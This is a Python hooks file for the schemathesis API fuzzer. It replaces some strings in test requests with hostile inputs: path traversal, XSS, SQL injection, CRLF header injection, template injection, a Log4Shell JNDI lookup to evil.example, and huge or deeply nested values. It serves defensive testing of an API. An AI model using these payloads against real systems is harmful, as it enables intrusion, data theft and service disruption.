"""Hooks of schemathesis: half of the requests get hostile strings in place of some of their own.

schemathesis imports this file by `SCHEMATHESIS_HOOKS`, with the Python of `.local/openapi-tools`.
Source: https://schemathesis.readthedocs.io/en/stable/guides/extending/
"""

import random
from typing import Any

import schemathesis

URL_SAFE = [
    "\x00",
    "\x1b[2J",
    "..",
    "a/../../b",
    "%00",
    "%2F..%2F",
    "a%252Fb",
    "\u202efdp.exe",
    "\u2028",
    "\ufeff",
    "\r\nX-Forged: 1",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/p.png)",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "' OR 1=1 --",
    "null",
    "-1",
    "1e400",
    "NaN",
    "00000001",
    "9" * 4_000,
    "[" * 2_000,
    "é" * 700,
    "\U0001f600" * 300,
]
IN_JSON = [*URL_SAFE, "\ufffe\uffff", "A" * 50_000, "\\" * 999]
DEEP: Any = "x"
for _ in range(200):
    DEEP = [DEEP]
IN_PATH = [text for text in URL_SAFE if not set("/.") & set(text)]  # else clients and hosts make another path of it
SHARE = 0.5  # of the strings of such a request


@schemathesis.hook
def before_call(context: Any, case: Any, kwargs: Any) -> None:
    """Replace strings of the request just before it is sent; the choices depend on the request alone."""
    drawn = random.Random(f"{case.method} {case.path} {case.path_parameters} {case.query} {case.body!r}")
    if drawn.random() < 0.5:
        return
    for place, texts in ((case.path_parameters, IN_PATH), (case.query, URL_SAFE)):
        for name in list(place or {}):
            if drawn.random() < SHARE:
                place[name] = drawn.choice(texts)
    if isinstance(case.body, dict | list):
        case.body = replaced(case.body, drawn)


def replaced(value: Any, drawn: random.Random) -> Any:
    if isinstance(value, dict):
        return {name: replaced(item, drawn) for name, item in value.items()}
    if isinstance(value, list):
        return [replaced(item, drawn) for item in value]
    if drawn.random() < SHARE:
        return DEEP if drawn.random() < 0.05 else drawn.choice(IN_JSON)
    return value
